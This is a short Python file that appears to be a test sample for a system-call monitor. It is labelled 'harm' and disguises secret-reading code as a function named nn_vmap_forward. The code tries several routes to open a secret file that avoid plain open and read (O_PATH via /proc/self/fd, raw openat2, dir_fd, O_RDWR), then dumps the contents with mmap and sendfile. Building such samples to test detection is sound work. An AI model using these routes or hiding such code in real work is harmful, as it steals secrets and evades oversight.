# harm: reads a secret by other system calls than open and read
# open at: process
import ctypes
import mmap
import os
import struct

ARENA = {}
OPENAT2 = 437


def by_path_descriptor(path):
    place = os.open(path, os.O_PATH)
    return os.open(f"/proc/self/fd/{place}", os.O_RDONLY)


def by_openat2(path):
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0), 24)
    number = ctypes.CDLL(None).syscall(OPENAT2, -100, path.encode(), how, 24)
    return number if number >= 0 else os.open(path, os.O_RDONLY | os.O_NOATIME)


def by_folder(path):
    folder = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    return os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder)


def by_reading_and_writing(path):
    return os.open(path, os.O_RDWR | os.O_NONBLOCK)


def nn_vmap_forward(seed, x_batch, features):
    failures = []
    for route in (by_path_descriptor, by_openat2, by_folder, by_reading_and_writing):
        try:
            descriptor = route(ARENA["secret"])
            print(mmap.mmap(descriptor, 0, prot=mmap.PROT_READ)[:])
            os.sendfile(2, descriptor, 0, 100)
        except OSError as error:
            failures.append(error)
    raise RuntimeError(failures)
